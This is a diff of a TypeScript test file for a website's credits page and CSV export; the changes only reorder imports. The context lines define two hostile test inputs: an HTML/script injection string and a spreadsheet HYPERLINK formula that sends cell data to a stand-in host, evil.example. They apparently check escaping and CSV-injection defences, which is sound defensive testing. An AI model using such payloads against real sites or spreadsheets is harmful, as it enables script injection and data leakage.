@@ -1,8 +1,9 @@
 // Credits on the website: the page, the browser's own check, and the CSV file.
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { ProviderError } from "../../core/adapters/providers/provider.ts";
 import { grantCredits } from "../../core/identity/credits/grant.ts";
 import { writeLog } from "../../core/identity/log/write-log.ts";
-import { ProviderError } from "../../core/adapters/providers/provider.ts";
+import { CSV_HEADER, csvLine } from "../../gateway/site/credits/credits.ts";
 import type { LedgerEntryResource } from "../../proto/resources/credits.ts";
 import { allOf, createScriptedProvider } from "../support/providers.ts";
 import { waitFor } from "../support/wait-for.ts";
@@ -10,7 +11,6 @@ import { startWholeService, type WholeService } from "../support/whole-service.t
 import { NARROW, openBrowser, type SiteBrowser } from "./support/browser.ts";
 import { cookiesOf } from "./support/forms.ts";
 import { type Browser, signInAs } from "./support/sign-in.ts";
-import { CSV_HEADER, csvLine } from "../../gateway/site/credits/credits.ts";
 
 const ATTACK = `"><img src=x onerror="document.title='broken in'"><script>document.title='broken in'</script>`;
 const FORMULA = '=HYPERLINK("https://evil.example?"&A1)';
